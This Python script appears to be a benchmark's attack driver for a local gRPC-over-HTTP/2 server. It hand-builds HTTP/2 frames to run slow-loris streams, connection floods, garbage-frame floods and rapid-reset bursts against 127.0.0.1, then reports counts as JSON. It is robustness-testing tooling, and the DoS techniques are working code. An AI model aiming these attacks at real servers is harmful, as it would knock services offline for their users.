"""The attackers of the benchmark, each a process of its own on the lowest priority: attack.py NAME PORT SECONDS key=value...

Speaks HTTP/2 by hand, in plain text, to a port of 127.0.0.1. Prints `begun` when it has reached the server, and what it did as a
line of JSON at the end: at SIGTERM, or after SECONDS. Exits 1 if it never reached the server.
"""

import asyncio
import collections
import contextlib
import itertools
import json
import os
import random
import signal
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, UNKNOWN = 0, 1, 3, 4, 0xFA
END_HEADERS = 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without indexing or Huffman codes."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def call_headers(path):
    pseudo = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"127.0.0.1"}
    return b"".join(itertools.starmap(literal, {**pseudo, b"te": b"trailers", b"content-type": b"application/grpc"}.items()))


COMPUTE_LOSS = call_headers(b"/headwater.v1.LossService/ComputeLoss")
UPLOAD_WEIGHTS = call_headers(b"/headwater.v1.HeadService/UploadWeights")


class Attack:
    """The attackers' common state: the end of the attack, and the counts."""

    def __init__(self, port, seconds, options):
        self.port = port
        self.end = time.monotonic() + seconds
        self.options = options
        self.counts = collections.Counter()

    def over(self):
        return time.monotonic() >= self.end

    async def open(self, http2=True):
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
        if not self.counts:
            print("begun", flush=True)
        self.counts["connections"] += 1
        if http2:
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
        return reader, writer

    async def discard(self, reader):
        """Reads until the server ends the connection, and ignores the answers."""
        with contextlib.suppress(OSError):
            while await reader.read(1 << 16):
                pass

    async def repeat(self, use, pause=0.01):
        """Until the end, `use(writer, is_over)` of one connection after the other, whose answers are ignored."""
        while not self.over():
            try:
                reader, writer = await self.open()
                reading = asyncio.ensure_future(self.discard(reader))
                await use(writer, lambda reading=reading: self.over() or reading.done())
                reading.cancel()
                writer.close()
            except OSError:
                self.counts["failures"] += 1
                await asyncio.sleep(pause)


async def slow_loris(attack):
    """`streams` calls, 50 of them on a connection, which begin and then send a byte of their first message every second."""
    each = 50

    async def trickle(writer, is_over):
        for i in range(each):
            stream = 2 * i + 1
            writer.write(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS if i % 2 else UPLOAD_WEIGHTS))
            writer.write(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 1 << 20)))
            attack.counts["streams"] += 1
        while not is_over():
            for i in range(each):
                writer.write(frame(DATA, 0, 2 * i + 1, b"\x0a"))
                attack.counts["trickled_bytes"] += 1
            await writer.drain()
            await asyncio.sleep(1)

    await asyncio.gather(*(attack.repeat(trickle, pause=0.1) for _ in range(int(attack.options["streams"]) // each)))


async def connections(attack):
    """Opens `total` connections, silent ones, ones with the preface, ones with nonsense, and drops them, within `over` seconds."""
    total, seconds = int(attack.options["total"]), float(attack.options["over"])
    begin = time.monotonic()

    async def one(i):
        try:
            _, writer = await attack.open(http2=i % 3 == 1)
            if i % 3 == 2:
                writer.write(os.urandom(64))
            await asyncio.sleep(random.random())
            writer.transport.abort()
        except OSError:
            attack.counts["failures"] += 1

    tasks = set()
    for i in range(total):
        ahead = i * seconds / total - (time.monotonic() - begin)
        if ahead > 0:
            await asyncio.sleep(ahead)
        tasks.add(asyncio.ensure_future(one(i)))
        if len(tasks) > 500:
            _, tasks = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
    await asyncio.gather(*tasks)


async def garbage(attack):
    """`rate` bytes a second of garbage: frames of an unknown kind, calls whose messages are noise, and bytes that are no HTTP/2 on
    new connections. A server reads and skips the frames."""
    rate = float(attack.options["rate"])
    noise = os.urandom(1 << 20)
    unknown = frame(UNKNOWN, 0, 0, noise[:16000]) * 16
    begin = time.monotonic()
    sent = 0

    async def pace():
        ahead = sent / rate - (time.monotonic() - begin)
        if ahead > 0:
            await asyncio.sleep(ahead)

    async def send(writer, is_over):
        nonlocal sent
        stream = 1
        while not is_over():
            for _ in range(4):
                writer.write(unknown)
                sent += len(unknown)
                attack.counts["bytes"] += len(unknown)
                await writer.drain()
            if stream < 1 << 30:
                message = noise[:10000]
                writer.write(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS))
                writer.write(frame(DATA, 1, stream, b"\0" + struct.pack(">I", len(message)) + message))
                stream += 2
                attack.counts["calls"] += 1
                attack.counts["bytes"] += len(message)
            await pace()
        _, other = await attack.open(http2=False)
        other.write(noise)
        attack.counts["bytes"] += len(noise)
        await asyncio.sleep(0)
        other.close()

    await attack.repeat(send)


async def resets(attack):
    """Calls that are reset as soon as they have begun, as many as the server takes, on `parallel` connections."""

    async def send(writer, is_over):
        stream = 1
        while not is_over() and stream < 1 << 30:
            burst = []
            for _ in range(100):
                burst.append(frame(HEADERS, END_HEADERS, stream, COMPUTE_LOSS))
                burst.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                stream += 2
            writer.write(b"".join(burst))
            attack.counts["resets"] += 100
            await writer.drain()
            await asyncio.sleep(0)

    await asyncio.gather(*(attack.repeat(send) for _ in range(int(attack.options["parallel"]))))


ATTACKS = {"slow_loris": slow_loris, "connections": connections, "garbage": garbage, "resets": resets}


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    attack = Attack(port, seconds, dict(option.split("=", 1) for option in sys.argv[4:]))
    os.nice(19)

    def stop(*_):
        attack.end = 0

    signal.signal(signal.SIGTERM, stop)

    async def run():
        task = asyncio.ensure_future(ATTACKS[name](attack))
        while not task.done() and not attack.over():
            await asyncio.wait({task}, timeout=0.2)
        await asyncio.wait({task}, timeout=2)
        task.cancel()

    asyncio.run(run())
    print(json.dumps(attack.counts), flush=True)
    os._exit(0 if attack.counts.get("connections") else 1)


if __name__ == "__main__":
    main()
